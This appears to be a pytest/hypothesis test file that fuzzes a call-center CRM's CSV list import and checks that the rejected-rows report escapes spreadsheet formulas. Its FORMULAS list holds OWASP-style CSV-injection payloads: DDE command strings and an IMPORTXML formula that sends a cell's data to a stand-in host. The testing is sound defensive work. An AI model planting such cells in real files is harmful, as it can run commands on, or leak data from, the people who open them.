"""Call-list files as people and tools really produce them, and worse: random bytes, BOMs, the other encoding,
missing headers, ragged rows, NULs, huge fields and formula-injection cells, uploaded through the API (the console
upload and `callcenter lists import` call the same import).

A file is either refused as a whole with a clear error naming the problem (unreadable encoding, no header, a
NUL byte, a line over 64 KiB: nothing stored), or imported with every row accounted for: each good row a lead,
each bad row a rejection with its reason; and the rejected-rows report never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
import sqlalchemy as sa
from hypothesis import assume, given, strategies as st

from callcenter.cli import main
from crm_core.models import CallList, ImportRejection, Lead
from dialer.imports import rejections_csv

from .conftest import fuzz_settings, hostile_text

# Payloads of OWASP's CSV injection page, and their cousins.
FORMULAS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example\",\"click\")", "\t=1+1", "\r=1+1", "=1+1", "+SUM(A1:A9)",
            "-IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")", "@A1", "+'Sheet 2'!A1"]
valid_numbers = st.integers(0, 9_999_999).map(lambda n: f"+7912{n:07d}")
cells = st.one_of(hostile_text.map(lambda text: text.replace("\0", "")), st.sampled_from(FORMULAS),
                  st.text("0123456789 +-()", max_size=15))


@st.composite
def call_list_files(draw) -> tuple[bytes, str, str, list[list[str]], list[str]]:
    """(file bytes, encoding, delimiter, the data rows as written, the header): a header with a phone column and
    extra columns, rows of valid numbers, garbage cells, formulas and the wrong number of cells."""
    encoding = draw(st.sampled_from(["utf-8", "cp1251"]))
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    extra = draw(st.lists(st.sampled_from(["name", "consent", "Город", "=HYPERLINK(1)", "notes", "a;b,c"]),
                          unique=True, max_size=3))
    header = draw(st.permutations(["phone", *extra]))
    rows = draw(st.lists(st.one_of(
        st.fixed_dictionaries({"phone": st.one_of(valid_numbers, cells)} | {name: cells for name in extra})
        .map(lambda row: [row[name] for name in header]),
        st.lists(cells, min_size=1, max_size=len(header) + 2)), min_size=1, max_size=12))
    line_end = draw(st.sampled_from(["\n", "\r\n"]))
    # The csv module quotes a cell holding a line end only if it is its own: a bare CR must not appear unquoted.
    rows = [[cell.encode(encoding, "ignore").decode(encoding).replace("\r", "" if line_end == "\n" else "\r")
             for cell in row] for row in rows]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=line_end).writerows([header, *rows])
    bom = "\ufeff" if encoding == "utf-8" and draw(st.booleans()) else ""
    return (bom + buffer.getvalue()).encode(encoding), encoding, delimiter, rows, header


@pytest.fixture
def upload(client, headers_for, make_dialing_campaign, db_session):
    """Upload bytes as a call list of a fresh campaign through the API; returns the response."""
    headers = headers_for("supervisor")
    campaign = make_dialing_campaign(db_session)
    db_session.commit()

    def send(data: bytes, **form):
        return client.post(f"/api/campaigns/{campaign.id}/lists", headers=headers, content_type="multipart/form-data",
                           data=form | {"file": (io.BytesIO(data), "list.csv")})

    return send


@pytest.fixture
def stored(connection):
    """What the imports stored: (lists, leads by row, rejections by row) of the last list."""

    def read(list_id: int):
        leads = dict(connection.execute(sa.select(Lead.row_number, Lead.e164).where(Lead.list_id == list_id)).all())
        rejections = dict(connection.execute(sa.select(ImportRejection.row_number, ImportRejection.reason)
                                             .where(ImportRejection.list_id == list_id)).all())
        return leads, rejections

    return read


def test_every_row_of_a_messy_file_is_a_lead_or_a_rejection_with_its_reason(upload, stored, isolated, garbage,
                                                                          headers_for):

    @fuzz_settings()
    @given(file=call_list_files())
    def imported(file):
        data, encoding, delimiter, rows, header = file
        with isolated():
            response = upload(data, encoding=encoding, delimiter=delimiter)
            assert response.status_code == 201, response.get_json()
            report = response.get_json()
            leads, rejections = stored(report["id"])
            written = [(position + 2, row) for position, row in enumerate(rows) if row != []]
            assert report["rows_total"] == len(written) == len(leads) + len(rejections)
            assert all(reason for reason in rejections.values())
            seen = set()
            for row_number, row in written:
                phone = row[header.index("phone")] if len(row) == len(header) else None
                if phone is not None and re.fullmatch(r"\+7912\d{7}", phone) and phone not in seen:
                    # A garbage cell above may have been the same number written another way.
                    assert leads.get(row_number) == phone or "duplicate" in rejections[row_number], (row_number, row)
                    seen.add(phone)
                elif len(row) != len(header):
                    assert "columns" in rejections[row_number]
            assert garbage() == []

    imported()


@pytest.mark.parametrize("data, encoding, message", [
    (b"", "auto", "the file is empty"),
    (b"\xff\xfe" + "phone\n+79123456789\n".encode("utf-16-le"), "auto", "NUL byte"),
    (b"phone\n+79123456789\n+7912\x003456789\n", "auto", "line 3 holds a NUL byte"),
    ("phone;name\n+79123456789;Иван\n".encode("cp1251"), "utf-8", "line 2 is not valid utf-8"),
    (b"\n+79123456789\n", "auto", "header"),
    (b"phone\n" + b"+7912" + b"9" * 70_000 + b"\n", "auto", "longer than 64 KiB"),
    (b'phone\n"+79123456789\n' + b"x" * 70_000, "auto", "longer than 64 KiB"),
    (b"\r\x01", "auto", "the header cannot be read as CSV"),
    (b"phone\rname\r+79123456789\r", "auto", "the header cannot be read as CSV"),
])
def test_a_file_that_cannot_be_read_is_refused_with_its_reason_and_stores_nothing(upload, row_counts, data, encoding,
                                                                                  message):
    before = row_counts()
    response = upload(data, encoding=encoding)
    assert response.status_code == 400
    assert message in response.get_json()["message"]
    assert row_counts() == before


def test_random_bytes_are_refused_clearly_or_imported_row_by_row(upload, isolated, row_counts, garbage):

    @fuzz_settings()
    @given(data=st.one_of(st.binary(max_size=400), st.binary(max_size=200).map(lambda b: b"phone\n" + b)))
    def uploaded(data):
        with isolated():
            before = row_counts()
            response = upload(data)
            body = response.get_json()
            if response.status_code == 400:
                assert body["field"] and body["message"]
                assert row_counts() == before
            else:
                assert response.status_code == 201, body
                assert body["rows_total"] == body["leads"] + body["rejected"]
                assert garbage() == []

    uploaded()


def test_the_rejected_rows_report_never_hands_a_spreadsheet_a_formula(db_session, make_dialing_campaign):
    campaign = make_dialing_campaign(db_session)
    call_list = CallList(campaign_id=campaign.id, name="formulas", source="file")
    db_session.add(call_list)
    db_session.flush()

    @fuzz_settings()
    @given(values=st.lists(st.one_of(st.sampled_from(FORMULAS), hostile_text.map(lambda t: t.replace("\0", ""))),
                           min_size=1, max_size=6))
    def exported(values):
        db_session.execute(sa.delete(ImportRejection).where(ImportRejection.list_id == call_list.id))
        db_session.add_all(ImportRejection(list_id=call_list.id, row_number=n + 2, value=value[:255],
                                           reason=value[:255]) for n, value in enumerate(values))
        db_session.flush()
        report = list(csv.reader(io.StringIO("".join(rejections_csv(db_session, call_list.id)), newline="")))
        for (_, value, reason), written in zip(report[1:], values):
            for cell in (value, reason):
                if written in FORMULAS:
                    assert cell == "'" + written
                else:
                    assert cell.removeprefix("'") == written[:255]
                    assert not cell.startswith(("=", "@")), cell

    exported()


def test_the_rejected_rows_download_shows_formulas_as_text(upload, client, headers_for):
    data = "phone,name\n=cmd|' /C calc'!A0,x\n+79123456789,ok\n@SUM(1+1),y\n-2+3+cmd|' /C calc'!A0,z\n".encode()
    report = upload(data).get_json()
    download = client.get(f"/api/lists/{report['id']}/rejected.csv", headers=headers_for("supervisor"))
    rows = list(csv.reader(io.StringIO(download.get_data(as_text=True))))
    assert [value for _, value, _ in rows[1:]] == ["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0"]


def test_a_rejected_phone_number_with_a_plus_stays_a_plain_number_in_the_report(upload, client, headers_for):
    report = upload(b"phone\n+79123456789\n+7 912 345-67-89\n-12345\n").get_json()
    download = client.get(f"/api/lists/{report['id']}/rejected.csv", headers=headers_for("supervisor"))
    rows = list(csv.reader(io.StringIO(download.get_data(as_text=True))))
    assert [value for _, value, _ in rows[1:]] == ["+79123456789", "-12345"]


def test_the_command_line_import_writes_a_rejected_rows_report_without_formulas(runner, tmp_path):
    runner.invoke(main, ["campaigns", "create", "Formulas", "--profile", "RU", "--caller-id", "+74950000000"])
    path = tmp_path / "list.csv"
    path.write_bytes(b"phone;name\n+79123456789;ok\n=cmd|' /C calc'!A0;x\n@SUM(1+1);y\n\xff\xfe;z\n")
    result = runner.invoke(main, ["lists", "import", str(path), "--campaign", "Formulas", "--encoding", "cp1251"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader((tmp_path / "list.csv.rejected.csv").read_text(encoding="utf-8").splitlines()))
    assert [value for _, value, _ in rows[1:]] == ["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "яю"]
